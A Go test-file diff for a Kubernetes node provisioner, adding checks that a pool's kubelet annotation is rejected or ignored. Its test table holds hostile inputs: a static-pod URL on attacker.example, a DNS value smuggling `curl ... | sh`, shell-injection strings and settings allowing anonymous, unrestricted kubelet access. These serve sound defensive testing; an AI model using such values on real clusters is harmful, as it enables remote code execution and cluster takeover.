@@ -1365,7 +1365,7 @@ func TestListShowsEveryMachineWhateverItsClass(t *testing.T) {
 
 // A pool that v1beta1 wrote has a kubelet of its own, which counts before the class's, for plans and for machines.
 func TestTheKubeletOfAPoolOfV1Beta1Counts(t *testing.T) {
-	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
+	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.V1Beta1 = true }, func(t *testing.T, w *world) {
 		plain := defaultPool()
 		own := plain.DeepCopy()
 		own.Annotations = map[string]string{v1.KubeletCompatibilityAnnotationKey: `{"maxPods":13}`}
@@ -1395,6 +1395,57 @@ func TestTheKubeletOfAPoolOfV1Beta1Counts(t *testing.T) {
 			t.Errorf("a configuration that is no object: %v", err)
 		}
 	})
+}
+
+// An author of NodePools must not reach what only an author of classes decides.
+func TestAPoolCannotConfigureKubeletsBeyondV1Beta1(t *testing.T) {
+	for name, text := range map[string]string{
+		"a field that v1beta1 had not":    `{"authentication":{"anonymous":{"enabled":true}},"authorization":{"mode":"AlwaysAllow"}}`,
+		"static pods":                     `{"staticPodURL":"http://attacker.example/root-pod.yaml"}`,
+		"a DNS address that is a script":  `{"clusterDNS":["10.0.0.10'; curl http://attacker.example | sh; '"]}`,
+		"a threshold that is a script":    `{"evictionHard":{"memory.available":"5%'; sh; '"}}`,
+		"a signal that does not exist":    `{"evictionHard":{"x'; sh; '":"5%"}}`,
+		"a grace period that is a script": `{"evictionSoft":{"memory.available":"5%"},"evictionSoftGracePeriod":{"memory.available":"1m'"}}`,
+		"a reserve that is a script":      `{"kubeReserved":{"cpu":"1'; sh; '"}}`,
+		"a number that is an expression":  `{"maxPods":"vcpus * 8"}`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			inWorld(t, awsmodel.Config{}, func(s *Settings) { s.V1Beta1 = true }, func(t *testing.T, w *world) {
+				pool := defaultPool()
+				pool.Annotations = map[string]string{v1.KubeletCompatibilityAnnotationKey: text}
+				if _, err := w.provider.Catalog(t.Context(), pool); !isType[*cloud.ClassNotReadyError](err) {
+					t.Errorf("Catalog = %v, want that the class is not ready", err)
+				}
+			})
+		})
+	}
+}
+
+func TestTheKubeletOfAPoolIsIgnoredWithoutV1Beta1(t *testing.T) {
+	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
+		pool := defaultPool()
+		plain, err := w.provider.Catalog(t.Context(), pool)
+		check(t, err)
+		pool.Annotations = map[string]string{v1.KubeletCompatibilityAnnotationKey: `{"maxPods":13}`}
+		annotated, err := w.provider.Catalog(t.Context(), pool)
+		check(t, err)
+		if annotated != plain {
+			t.Error("the annotation changed what the pool's nodes are")
+		}
+	})
+}
+
+func TestCopiesOfAClassForKubeletsAreBounded(t *testing.T) {
+	var k kubelets
+	nc := &awsv1.EC2NodeClass{}
+	for n := range 10 * mostKubelets {
+		if _, err := k.with(nc, fmt.Sprintf(`{"maxPods":%d}`, n+1)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if len(k.made) > mostKubelets {
+		t.Errorf("%d copies are kept, at most %d", len(k.made), mostKubelets)
+	}
 }
 
 func TestCataloguePointersAreKept(t *testing.T) {
